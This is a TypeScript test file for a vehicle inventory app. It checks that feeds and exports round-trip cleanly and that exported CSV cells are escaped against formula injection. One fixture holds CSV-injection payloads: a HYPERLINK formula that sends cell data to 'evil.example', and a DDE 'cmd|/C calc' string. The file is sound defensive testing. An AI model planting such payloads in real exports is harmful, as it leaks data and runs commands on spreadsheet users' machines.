import { readFile } from 'node:fs/promises'
import { join } from 'node:path'
import { parse } from 'csv-parse/sync'
import fc from 'fast-check'
import { describe, expect, test } from 'vitest'
import { readSpecification, writeSpecification } from '../../src/domain/catalogue/edits/vehicle-patch.ts'
import { sampleInventory } from '../../src/domain/catalogue/sample-stock.ts'
import type { StockedVehicle } from '../../src/domain/catalogue/vehicle.ts'
import { vehicleTables } from '../../src/domain/catalogue/vehicle-rows.server.ts'
import { addVehicles, eachVehicle } from '../../src/domain/catalogue/vehicles.server.ts'
import { feedResponse } from '../../src/features/feeds/feed-response.server.ts'
import { engines } from '../support/databases.ts'
import { importSetting } from '../support/importing.ts'
import { larkwayAt } from '../support/larkway.ts'

const imports = importSetting(engines.SQLite)
const siteUrl = 'https://carts.example'

/**
 * Values that are easily lost in a file format: numbers, strings that look like numbers, flags, punctuation, line breaks,
 * a missing price.
 */
const awkward: StockedVehicle = {
  id: 'awkward-one',
  name: 'Awkward "One", 5\' long',
  brand: 'Trial',
  category: 'City; or | not',
  inStock: false,
  isNew: false,
  description: 'First line,\nsecond "line"; third | line',
  images: [],
  features: ['One', 'Two | or three'],
  specifications: {
    topSpeed: '25',
    seatingCapacity: 4,
    weight: 1480.5,
    serial: '00123',
    code: '123',
    quoted: "'123",
    doors: false,
    word: 'true',
    vin: '12345678901234567',
    load: '=1+1',
    phone: '+1 844 555 0142',
    offset: -5,
    offsetText: '-5',
    escaped: "'=1+1",
  },
  aliases: [],
}

/** Strings that a spreadsheet would evaluate as formulas. */
const formulas: StockedVehicle = {
  ...awkward,
  id: 'formulas',
  name: '=HYPERLINK("http://evil.example/?"&A1,"click")',
  brand: "@SUM(1+1)*cmd|' /C calc'!A0",
  category: '-2+3+cmd',
  description: '+1-1\nsecond line',
  features: ['=1+1', 'Roof'],
}

async function feed(name: 'inventory.csv' | 'inventory.json' | 'google-products.xml'): Promise<string> {
  const vehicles = await Array.fromAsync(eachVehicle(imports.database.db))
  const text = await feedResponse(name, vehicles, siteUrl).text()
  return imports.fileOf(text, name)
}

const read = (file: string) => imports.run(file, { keepMissing: false, pictures: { base: imports.folder, siteUrl } })

describe.each(['inventory.csv', 'inventory.json'] as const)('/feeds/%s', (name) => {
  test('changes nothing when it is imported again', async () => {
    await addVehicles(imports.database.db, [awkward, formulas], () => new Date())
    expect(await read(await feed(name))).toMatchObject({
      comparison: { added: 0, changed: 0, removed: 0, unchanged: sampleInventory.length + 2 },
    })
  })

  test('recreates the stock in an empty database, keeping numbers as numbers and strings as strings', async () => {
    await addVehicles(imports.database.db, [awkward, formulas], () => new Date())
    const before = await imports.stock()
    const file = await feed(name)
    await vehicleTables(imports.database.db).deleteFrom('vehicles').execute()
    expect(await read(file)).toMatchObject({ comparison: { added: before.length } })
    const comparable = (stock: readonly StockedVehicle[]) =>
      // Feeds list pictures by their full address and leave out aliases.
      stock.map(({ images, ...vehicle }) => ({ ...vehicle, images: images.length, aliases: [] }))
    expect(comparable(await imports.stock())).toEqual(comparable(before))
  })
})

test('our Google feed changes nothing when it is imported again', async () => {
  const file = await feed('google-products.xml')
  const result = await imports.run(file, { pictures: { base: imports.folder, siteUrl } })
  expect(result).toMatchObject({ read: { label: 'a Google product file' }, comparison: { added: 0, changed: 0 } })
})

test('an export recreates the stock in an empty database', async () => {
  await addVehicles(imports.database.db, [awkward, formulas], () => new Date())
  const before = await imports.stock()
  for (const format of ['csv', 'json']) {
    const file = join(imports.folder, `exported.${format}`)
    await larkwayAt(imports.database.location)('inventory', 'export', '--format', format, '--out', file)
    await vehicleTables(imports.database.db).deleteFrom('vehicles').execute()
    await read(file)
    expect(await imports.stock()).toEqual(before)
  }
})

test('no CSV has a cell that a spreadsheet would run as a formula', async () => {
  await addVehicles(imports.database.db, [formulas], () => new Date())
  const { out } = await larkwayAt(imports.database.location)('inventory', 'export')
  for (const text of [out, await readFile(await feed('inventory.csv'), 'utf8')]) {
    const cells: string[] = parse(text, { bom: true }).flat()
    expect(cells).toContain(`'${formulas.name}`)
    expect(cells.filter((cell) => /^[=+@-]/.test(cell) && !/^-?[\d.]+$/.test(cell))).toEqual([])
  }
})

test('an export does not replace a file without --overwrite', async () => {
  const larkway = larkwayAt(imports.database.location)
  const file = await imports.fileOf('mine', 'kept.csv')
  const rejection = await larkway('inventory', 'export', '--out', file)
  expect(rejection.code).toBe(1)
  expect(rejection.err).toContain('--overwrite')
  expect(await readFile(file, 'utf8')).toBe('mine')
  expect((await larkway('inventory', 'export', '--out', file, '--overwrite')).code).toBe(0)
  expect(await readFile(file, 'utf8')).toContain('denago-city')
})

test('any specification reads back as it was written', () => {
  const value = fc.oneof(
    fc
      .string()
      .map((text) => text.trim())
      .filter((text) => text !== ''),
    fc.double({ noNaN: true, noDefaultInfinity: true }).filter((number) => !Object.is(number, -0)),
    fc.boolean(),
    fc.constantFrom("'5", "''", 'TRUE', '1e3', '0x10', "'true", '007', '-1'),
  )
  fc.assert(
    fc.property(value, (specification) => {
      expect(readSpecification('weight', writeSpecification('weight', specification))).toBe(specification)
    }),
  )
})
